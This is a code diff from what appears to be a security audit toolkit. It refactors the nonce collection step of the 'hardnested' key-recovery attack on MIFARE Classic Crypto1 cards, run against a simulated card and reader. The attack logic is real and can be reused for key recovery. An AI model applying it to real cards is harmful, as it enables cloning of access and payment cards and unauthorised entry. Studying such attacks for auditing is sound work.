@@ -34,10 +34,10 @@ from collections.abc import Callable
 import numpy as np
 
 from audit._hardnested import brute_force, half_sums
-from audit.m1_attacks import AttackFailed, try_key
-from cardsim.crypto1 import FA, FB, FC, MASK24, Crypto1, encrypt_bytes
+from audit.m1_attacks import AttackFailed, nested_request, try_key
+from cardsim.crypto1 import FA, FB, FC, MASK24, Crypto1
 from cardsim.mifare import Frame
-from terminals.m1 import FrameSlot, M1Chip, M1Error, M1Reader, with_crc
+from terminals.m1 import FrameSlot, M1Chip, M1Error, M1Reader
 
 BRUTE_NONCES = 24  # 96 parity bits: a wrong 48-bit state passes them with chance 2^-96
 MAX_NONCES = 20_000  # ~1,600 show every first byte; far more means the nonces are not random
@@ -125,19 +125,17 @@ class NestedNonces:
         return np.array([uid ^ enc for enc in self.nonces], dtype=np.uint32).tobytes(), bytes(self.nonces.values())
 
 
-def _target_nonce(chip: M1Chip, uid: int, known: tuple[int, int, int], target: tuple[int, int]) -> Frame:
-    """Authenticate with the known key, request the target in that session, then leave it unanswered (an empty
-    frame: the card is selected again without a power cycle). Unlike ``m1_attacks.nested_attack``, which powers
-    the card up for every nonce so that a weak PRNG starts from its known place, the field stays on: a weak PRNG
-    runs on, so its nonces vary too."""
+def _target_nonce(
+    chip: M1Chip, uid: int, known: tuple[int, int, int], target: tuple[int, int]
+) -> tuple[int, tuple[int, ...]]:
+    """({nT}, parities) of the target: authenticate with the known key, request the target in that session, then
+    leave it unanswered (an empty frame: the card is selected again without a power cycle). Unlike
+    ``m1_attacks.nested_attack``, which powers the card up for every nonce so that a weak PRNG starts from its
+    known place, the field stays on: a weak PRNG runs on, so its nonces vary too."""
     reader = M1Reader(chip, uid)
     reader.authenticate(known[0], known[1], known[2])
-    assert reader.cipher is not None
-    enc, parities = encrypt_bytes(reader.cipher, with_crc(chip, bytes([target[1], target[0]])))
-    answer = chip.transceive(Frame(enc, tuple(parities)))
+    answer = nested_request(chip, reader, target)
     chip.transceive(Frame(b""))
-    if answer is None or len(answer.data) != 4 or len(answer.parity) != 4:
-        raise AttackFailed(f"no encrypted nonce for the nested authentication to block {target[0]}")
     return answer
 
 
@@ -165,10 +163,10 @@ def collect_nested_nonces(
                 "do not vary (a static-nonce card needs static nested)"
             )
         try:
-            answer = _target_nonce(chip, uid, known, target)
+            enc, parities = _target_nonce(chip, uid, known, target)
         except M1Error as e:
             raise AttackFailed(f"the known key does not open block {known[0]}: {e}") from e
-        nonces.add(int.from_bytes(answer.data), answer.parity)
+        nonces.add(enc, parities)
         if nonces.count % 256 == 0:
             progress(f"hardnested: {nonces.count} nonces, {len(nonces.a0)} of 256 first bytes seen")
     progress(f"hardnested: {nonces.count} nonces collected, every first byte seen")
